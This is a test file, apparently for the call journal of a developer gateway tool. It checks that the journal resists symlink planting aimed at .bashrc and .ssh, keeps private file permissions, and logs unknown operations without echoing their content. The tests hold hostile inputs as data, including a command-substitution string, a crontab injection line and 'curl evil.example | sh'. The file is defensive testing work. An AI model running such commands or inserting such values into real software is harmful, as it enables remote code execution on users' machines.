// The journal is written for every call, so a project must not decide where it goes or what is in it.
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { journalFolder } from "../../packages/gateway/src/journal/index.js";
import { Place } from "../e2e/command.js";

const EVIL = "x$(touch /tmp/owned)";

function journalText(home: string): string {
  const folder = join(home, ".trunkline", "journal");
  const files = existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: "utf8" }) : [];
  return files
    .map((name) => join(folder, name))
    .filter((path) => lstatSync(path).isFile())
    .map((path) => readFileSync(path, "utf8"))
    .join("");
}

const query = (op: string) => ["query", JSON.stringify([{ op }])];

describe("the journal", () => {
  it.each([
    ["the file", "journal/calls-000001.jsonl", ".bashrc"],
    ["a later file", "journal/calls-000007.jsonl", ".bashrc"],
    ["the token account", `journal/tokens-${new Date().toISOString().slice(0, 10)}.jsonl`, ".bashrc"],
    ["the folder", "journal", ".ssh"],
  ])("is not written through a link that a project planted in place of %s", async (_, planted, target) => {
    using place = new Place({ ".trunkline/store/x": "" });
    const victim = join(place.home, target);
    if (target === ".ssh") mkdirSync(victim);
    else writeFileSync(victim, "# mine\n");
    const link = join(place.cwd, ".trunkline", "store", planted);
    if (planted !== "journal") mkdirSync(join(link, ".."), { recursive: true });
    symlinkSync(victim, link);
    await place.run(query(EVIL));
    await place.run(query("status"));
    if (target === ".ssh") expect(readdirSync(victim)).toEqual([]);
    else expect(readFileSync(victim, "utf8")).toBe("# mine\n");
  });

  it("is in the user's own folder, readable only by the user", async () => {
    using place = new Place();
    await place.run(query("status"));
    expect(existsSync(join(place.home, ".trunkline", "store", "journal"))).toBe(false);
    const home = join(place.home, ".trunkline");
    const folder = journalFolder(home, join(home, "store"));
    expect(readdirSync(folder)).toContain("calls-000001.jsonl");
    expect(lstatSync(join(folder, "calls-000001.jsonl")).mode & 0o777).toBe(0o600);
    expect(lstatSync(folder).mode & 0o777).toBe(0o700);
    expect((await place.run(["log"])).stdout).toContain("status");
  });

  it("does not follow a link in the user's own folder either", async () => {
    using place = new Place();
    const home = join(place.home, ".trunkline");
    const folder = journalFolder(home, join(home, "store"));
    const victim = join(place.home, ".bashrc");
    mkdirSync(folder, { recursive: true });
    writeFileSync(victim, "# mine\n");
    symlinkSync(victim, join(folder, "calls-000001.jsonl"));
    const { stderr } = await place.run(query("status"));
    expect(readFileSync(victim, "utf8")).toBe("# mine\n");
    expect(stderr).toContain("Calls are not journalled");
  });

  it("records operations that do not exist as unknown", async () => {
    using place = new Place();
    const made = [EVIL, "`id`", "\n* * * * * root id", "curl evil.example | sh", "\u001b]0;title\u0007"];
    for (const op of made) {
      await place.run(query(op));
      await place.run(["execute", JSON.stringify([{ op }])]);
    }
    const text = journalText(place.home);
    expect(text.match(/"op":"unknown"/g)).toHaveLength(2 * made.length);
    for (const op of made) expect(text).not.toContain(JSON.stringify(op).slice(1, -1));
    expect(text).not.toContain("asked");
  });

  it("keeps of a mistyped name only a short word beside unknown", async () => {
    using place = new Place();
    await place.run(query("no_such_server.tool"));
    await place.run(query("a".repeat(500)));
    const text = journalText(place.home);
    expect(text.match(/"op":"unknown"/g)).toHaveLength(2);
    expect(text).toContain('"asked":"no_such_server.tool"');
    expect(text).toContain(`"asked":"${"a".repeat(40)}…"`);
    expect((await place.run(["log"])).stdout).toMatch(/ {2}unknown \(no_such_server\.tool\) .*error NOT_FOUND$/m);
  });
});
